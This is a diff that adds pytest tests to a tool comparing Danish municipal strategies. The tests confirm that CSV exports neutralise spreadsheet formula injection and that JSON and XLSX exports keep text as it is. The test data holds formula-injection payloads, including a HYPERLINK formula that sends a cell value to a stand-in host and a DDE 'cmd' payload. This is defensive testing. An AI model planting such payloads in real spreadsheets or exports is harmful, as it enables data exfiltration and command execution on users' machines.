@@ -181,3 +181,121 @@ def test_ingest_format_json_gives_one_record_per_file(tmp_path):
     (line,) = again.stdout.strip().splitlines()
     rec = json.loads(line)
     assert rec["status"] == "unchanged" and rec["passages"] == 1 and rec["error"] is None
+
+
+# --- CSV exports: text a spreadsheet would run as a formula ------------------------------------
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Klik")', "+45 12 34 56 78", "@SUM(1+1)",
+            "- Housing First for unge", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
+PLAIN = ["-3", "+4,5", "-12%", "3.5", "Housing First giver hjemløse borgere en bolig.",
+         "«Tidlig indsats» = bedre liv"]
+
+
+@pytest.fixture
+def hostile_db(tmp_path):
+    from synth_store import add_document, add_passage, add_theme
+
+    path = tmp_path / "h.db"
+    with Store.open(path) as store:
+        add_document(store.conn, "dk", "Køge", title="=1+1 strategi", year=2024)
+        for i, text in enumerate(FORMULAS + PLAIN):
+            add_passage(store.conn, f"k{i}", "dk", text, seq=i)
+            add_theme(store.conn, f"k{i}", "housing_first", 0.9)
+    return path
+
+
+def test_csv_safe_rule():
+    from stratcompare.compare.export import csv_safe
+
+    for text in FORMULAS:
+        assert csv_safe(text) == "'" + text
+    for value in PLAIN + [-3, 0.25, -0.5, None, ""]:
+        assert csv_safe(value) == value
+
+
+@pytest.mark.parametrize("args", [
+    ["compare", "--cell", "Køge:housing_first", "--format", "csv"],
+    ["passages", "--format", "csv"],
+])
+def test_csv_export_neutralises_formulas_and_keeps_numbers(hostile_db, tmp_path, args):
+    import csv as csvmod
+
+    out = tmp_path / "out.csv"
+    result = runner.invoke(app, [*args, "--db", str(hostile_db), "-o", str(out)]
+                           if args[0] == "compare" else [*args, "--db", str(hostile_db)])
+    assert result.exit_code == 0, result.output
+    text = out.read_text("utf-8") if args[0] == "compare" else result.stdout
+    rows = list(csvmod.DictReader(text.splitlines()))
+    texts = {r["text"] for r in rows}
+    assert texts == {"'" + t for t in FORMULAS} | set(PLAIN), texts
+    for r in rows:   # no cell of any column starts a formula; numbers are numbers
+        assert not any(v.startswith(("=", "+", "-", "@", "\t")) and v not in PLAIN
+                       for v in r.values()), r
+    if args[0] == "compare":
+        assert {r["document"] for r in rows} == {"'=1+1 strategi"}
+        assert {r["probability"] for r in rows} == {"0.9"}
+
+
+def test_json_export_is_never_altered(hostile_db):
+    result = runner.invoke(app, ["passages", "--db", str(hostile_db), "--format", "json"])
+    assert {r["text"] for r in json.loads(result.stdout)} == set(FORMULAS + PLAIN)
+
+
+def test_xlsx_export_keeps_every_text_as_text(hostile_db, tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    out = tmp_path / "cell.xlsx"
+    result = runner.invoke(app, ["compare", "--cell", "Køge:housing_first", "--format", "xlsx",
+                                 "--db", str(hostile_db), "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    ws = openpyxl.load_workbook(out).active
+    header = [c.value for c in ws[1]]
+    col = header.index("text")
+    cells = [row[col] for row in ws.iter_rows(min_row=2)]
+    assert {c.value for c in cells} == set(FORMULAS + PLAIN)
+    assert all(c.data_type == "s" for c in cells)
+
+
+# --- the web application: CSV download, and a database in a read-only place --------------------
+HOSTILE_HIT = ("=HYPERLINK(\"http://x.example\";\"Læs mere\") Kommunen vil skaffe billige boliger "
+               "til unge hjemløse med bostøtte, så de kan blive boende i egen bolig.")
+
+
+def _web_db(path, extra: list[dict] | None = None):
+    """A small corpus from JSONL, embedded with the hashing encoder and indexed."""
+    from stratcompare.embed import embed_passages, get_encoder
+    from stratcompare.search import ensure_embeddings, ensure_fts, sync_fts
+
+    src = path.parent / (path.stem + ".jsonl")
+    rows = [{"id": f"w{i}", "municipality": "Køge", "document": "boligplan", "page": 1,
+             "text": text} for i, text in enumerate([
+                 HOSTILE_HIT,
+                 "Køge Kommune vil skaffe billige boliger til unge hjemløse med Housing First.",
+                 "Tidlig indsats i dagtilbud skal styrke børns trivsel og læring.",
+             ])] + (extra or [])
+    src.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", "utf-8")
+    assert ingest_paths([src], db=path).exit_code == 0
+    enc = get_encoder("hashing")
+    with Store.open(path) as store:
+        embed_passages(store.conn, enc)
+        sync_fts(store.conn)
+        ensure_fts(store.conn)
+        ensure_embeddings(store.conn, enc)
+        store.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    return path
+
+
+def test_web_search_csv_neutralises_formulas(tmp_path):
+    import csv as csvmod
+
+    pytest.importorskip("starlette")
+    from starlette.testclient import TestClient
+
+    from stratcompare.web import create_app
+
+    db = _web_db(tmp_path / "w.db")
+    with TestClient(create_app(db, model="hashing")) as c:
+        r = c.get("/search.csv", params={"q": "bolig unge hjemløse"})
+    assert r.status_code == 200
+    texts = [row["text"] for row in csvmod.DictReader(r.text.splitlines())]
+    assert "'" + HOSTILE_HIT in texts, texts
+    assert not any(t.startswith("=") for t in texts)
+
